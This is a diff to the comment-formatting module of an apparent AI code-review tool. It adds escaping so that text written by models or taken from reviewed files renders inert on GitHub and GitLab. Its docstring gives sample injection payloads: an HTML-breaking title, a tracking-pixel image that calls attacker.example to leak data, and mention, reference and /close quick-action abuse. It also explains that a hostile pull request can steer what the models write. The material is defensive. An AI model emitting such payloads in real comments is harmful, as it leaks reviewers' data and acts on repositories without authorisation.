@@ -2,16 +2,33 @@
 
 Each body carries a hidden marker so a later run recognizes what it posted:
 ``<!-- fluxdrive:finding:<fingerprint> -->`` on an inline comment,
-``<!-- fluxdrive:summary -->`` on the summary comment. Text from a review
-(titles, explanations, fixes) is scrubbed (credentials masked, terminal
-controls dropped), cannot close or forge a marker, and cannot ping anyone
-(``@name`` is broken with a zero-width space).
+``<!-- fluxdrive:summary -->`` on the summary comment.
+
+Every text that came from a model or a reviewed file (titles, explanations,
+fixes, agent outcomes, paths) goes through :func:`text`, :func:`cell` or
+:func:`code` and nothing else, so on GitHub and GitLab it renders as inert
+text. Why: a pull request from a stranger chooses what the models read and
+so what they write; without this a finding titled
+``</details></td></tr></table><h1>INJECTED</h1>`` restructures the comment,
+``![pixel](https://attacker.example/p.png?d=leak)`` makes every reviewer who
+opens the pull request fetch a third party's tracking pixel, ``@name`` and
+``#123`` notify strangers, and ``/close`` closes a GitLab merge request.
+What :func:`text` does, in order: scrub (credentials masked, terminal
+controls dropped), bound, escape HTML (``&``, ``<``, ``>``: no tag, comment,
+entity or marker survives), backslash-escape the Markdown that builds links,
+images, code spans, tables and fences (`` ` `` ``[`` ``]`` ``|`` ``~``
+``\\``), defuse block syntax at a line start (headings, setext underlines,
+list and rule markers), and break mentions, ``#123``/``!123`` references and
+GitLab quick actions with a zero-width space. A bare ``https://`` URL stays
+readable text (at most a link, never an image). Check-run annotations are
+plain text on GitHub and use :func:`plain`.
 """
 
 from __future__ import annotations
 
 import re
 from collections.abc import Iterable
+from urllib.parse import quote
 
 from fluxdrive._masking import scrub
 from fluxdrive.publish.report import PublishedFinding, RunReport
@@ -24,38 +41,73 @@ RESOLVED_MARKER_RE = re.compile(r"<!-- fluxdrive:resolved:([0-9a-f]{8,64}) -->")
 MAX_BODY = 60_000  # GitHub refuses comment bodies over 65,536 characters
 MAX_ROWS = 100
 SEVERITY_LABEL = {"P0": "🔴 P0", "P1": "🟠 P1", "P2": "🟡 P2", "P3": "🔵 P3"}
-VERDICT_LABEL = {"safe": "✅ safe", "needs-changes": "⚠️ needs-changes", "risky": "⛔ risky", "error": "❌ error"}
+VERDICT_LABEL = {
+    "safe": "✅ safe",
+    "needs-changes": "⚠️ needs-changes",
+    "risky": "⛔ risky",
+    "incomplete": "❌ incomplete",
+    "error": "❌ error",
+}
+_ZWSP = "\u200b"
+_HTML = str.maketrans({"&": "&amp;", "<": "&lt;", ">": "&gt;"})
+_MARKDOWN = re.compile(r"([\\`\[\]|~])")  # link/image brackets, code spans, table cells, fences, the escape itself
 _MENTION = re.compile(r"@(?=[A-Za-z0-9])")
+_REFERENCE = re.compile(r"([#!])(?=\d)")  # #123 (GitHub/GitLab issue), !123 (GitLab merge request)
+_LINE_START = re.compile(r"(?m)^([ \t]*)([#=+*_-])")  # headings, setext underlines, lists, rules
+_QUICK_ACTION = re.compile(r"(?m)^([ \t]*)/")
+_URL_SAFE = ":/?#@!$&'*+,;=%-._~"  # quote() everything else: no ( ) < > [ ] ` | or space ends the link
 
 
-def text(value: str, limit: int = 2000) -> str:
-    """Review text made safe for a comment: scrubbed, no HTML comments, no mentions, bounded."""
-    value = scrub(value).replace("<!--", "&lt;!--").replace("-->", "--&gt;")
-    value = _MENTION.sub("@\u200b", value)
+def plain(value: str, limit: int = 2000) -> str:
+    """Review text for a field GitHub shows as plain text (check-run annotations): scrubbed and bounded."""
+    value = scrub(value)
     return value if len(value) <= limit else value[: limit - 1] + "…"
 
 
+def text(value: str, limit: int = 2000) -> str:
+    """Review text made inert for a GitHub/GitLab Markdown body (see the module docstring)."""
+    value = plain(value, limit).translate(_HTML)
+    value = _MARKDOWN.sub(r"\\\1", value)
+    value = _LINE_START.sub(r"\1\\\2", value)
+    value = _MENTION.sub("@" + _ZWSP, value)
+    value = _REFERENCE.sub(r"\1" + _ZWSP, value)
+    return _QUICK_ACTION.sub(r"\1" + _ZWSP + "/", value)
+
+
 def cell(value: str, limit: int = 300) -> str:
-    """:func:`text` for one table cell: one line, pipes escaped."""
-    return " ".join(text(value, limit).split()).replace("|", "\\|")
+    """:func:`text` for one table cell: one line (pipes are escaped by :func:`text`)."""
+    return " ".join(text(" ".join(value.split()), limit).split())
 
 
-def code(value: str) -> str:
-    """An inline code span that survives backticks in ``value``."""
-    value = " ".join(text(value, 300).split())
-    fence = "``" if "`" in value else "`"
-    return f"{fence} {value} {fence}" if fence == "``" else f"`{value}`"
+def code(value: str, *, table: bool = False) -> str:
+    """An inline code span that nothing in ``value`` can close: the fence is longer than any run of
+    backticks in it. Inside a span nothing renders, so only markers (``<!--``) are broken, and in a
+    table (``table=True``) pipes escaped, which GFM splits cells on even inside code."""
+    value = " ".join(plain(value, 300).split()).replace("<!--", "<!-" + _ZWSP + "-")
+    if table:
+        value = value.replace("|", "\\|")
+    longest = max((len(run) for run in re.findall(r"`+", value)), default=0)
+    fence = "`" * (longest + 1)
+    return f"{fence} {value} {fence}" if longest or value.startswith(" ") or value.endswith(" ") else f"`{value}`"
+
+
+def _severity(severity: str) -> str:
+    return SEVERITY_LABEL.get(severity) or text(severity, 20)
+
+
+def _verdict(verdict: str) -> str:
+    return VERDICT_LABEL.get(verdict) or text(verdict, 40)
 
 
 def counts_line(report: RunReport) -> str:
     """``3 P0 · 1 P1`` (or ``no findings``)."""
-    parts = [f"{n} {sev}" for sev, n in sorted(report.counts.items()) if n]
+    parts = [f"{n} {text(sev, 20)}" for sev, n in sorted(report.counts.items()) if n]
     return " · ".join(parts) if parts else "no findings"
 
 
 def finding_comment(finding: PublishedFinding, *, extra_places: Iterable[str] = ()) -> str:
     """The body of one inline comment."""
-    lines = [f"**{SEVERITY_LABEL.get(finding.severity, finding.severity)} · {text(finding.title, 500)}**", ""]
+    lines = [f"**{_severity(finding.severity)} · {text(finding.title, 500)}**", ""]
     if finding.why:
         lines += [text(finding.why), ""]
     if finding.fix:
@@ -65,7 +117,7 @@ def finding_comment(finding: PublishedFinding, *, extra_places: Iterable[str] = 
         shown = ", ".join(code(p) for p in others[:10])
         more = f" and {len(others) - 10} more" if len(others) > 10 else ""
         lines += [f"Also at: {shown}{more}", ""]
-    meta = [f"{finding.id}", f"agents: {', '.join(text(a, 80) for a in finding.agents)}"]
+    meta = [text(finding.id, 40), f"agents: {', '.join(text(a, 80) for a in finding.agents)}"]
     if finding.convergence:
         meta.append(f"convergence {finding.convergence}")
     if finding.rules:
@@ -79,18 +131,17 @@ def finding_comment(finding: PublishedFinding, *, extra_places: Iterable[str] = 
 def review_body(report: RunReport, inline: int, sha: str) -> str:
     """The short body of the pull request review."""
     return (
-        f"**fluxdrive** · verdict **{VERDICT_LABEL.get(report.verdict, report.verdict)}** · {counts_line(report)}"
-        f" · {inline} new inline comment(s) on `{sha[:12]}`. The summary comment has the full picture."
+        f"**fluxdrive** · verdict **{_verdict(report.verdict)}** · {counts_line(report)}"
+        f" · {inline} new inline comment(s) on {code(sha[:12])}. The summary comment has the full picture."
     )
 
 
 def _finding_rows(findings: list[PublishedFinding]) -> list[str]:
     rows = ["| Severity | Finding | Location | Agents |", "|---|---|---|---|"]
     for finding in findings[:MAX_ROWS]:
-        place = code(str(finding.place)) if finding.place else "—"
+        place = code(str(finding.place), table=True) if finding.place else "—"
         rows.append(
-            f"| {SEVERITY_LABEL.get(finding.severity, finding.severity)} | {cell(finding.title)} | {place} "
-            f"| {cell(', '.join(finding.agents))} |"
+            f"| {_severity(finding.severity)} | {cell(finding.title)} | {place} | {cell(', '.join(finding.agents))} |"
         )
     if len(findings) > MAX_ROWS:
         rows.append(f"| | … and {len(findings) - MAX_ROWS} more (see findings.json) | | |")
@@ -107,12 +158,12 @@ def summary_comment(
     summary_url: str | None = None,
 ) -> str:
     """The summary comment: verdict, counts, what is inline, the findings outside the diff, the agents."""
-    verdict = VERDICT_LABEL.get(report.verdict, report.verdict)
+    verdict = _verdict(report.verdict)
     lines = [
         SUMMARY_MARKER,
         f"## fluxdrive review: {verdict}",
         "",
-        f"**Verdict:** {verdict} · **Findings:** {counts_line(report)} · **Commit:** `{sha[:12]}`",
+        f"**Verdict:** {verdict} · **Findings:** {counts_line(report)} · **Commit:** {code(sha[:12])}",
     ]
     if not report.complete:
         reasons = "; ".join(text(r, 200) for r in report.incomplete_reasons[:5]) or "an agent did not finish"
@@ -136,7 +187,7 @@ def summary_comment(
         ]
         lines += ["", "</details>", ""]
     if summary_url:
-        lines.append(f"[Full report]({text(summary_url, 500).replace(')', '%29')})")
+        lines.append(f"[Full report]({quote(plain(summary_url, 500), safe=_URL_SAFE)})")
     lines.append("<sub>Posted by fluxdrive; this comment is updated on every run.</sub>")
     body = "\n".join(lines)
     return body if len(body) <= MAX_BODY else body[: MAX_BODY - 80] + "\n\n… (truncated; see findings.json)"
@@ -144,7 +195,7 @@ def summary_comment(
 
 def check_summary(report: RunReport) -> str:
     """The check run's ``output.summary``: verdict, counts, every finding, the agents."""
-    verdict = VERDICT_LABEL.get(report.verdict, report.verdict)
+    verdict = _verdict(report.verdict)
     lines = [f"**Verdict:** {verdict} · **Findings:** {counts_line(report)}", ""]
     if not report.complete:
         lines += ["**Incomplete:** " + ("; ".join(text(r, 200) for r in report.incomplete_reasons[:5]) or "yes"), ""]
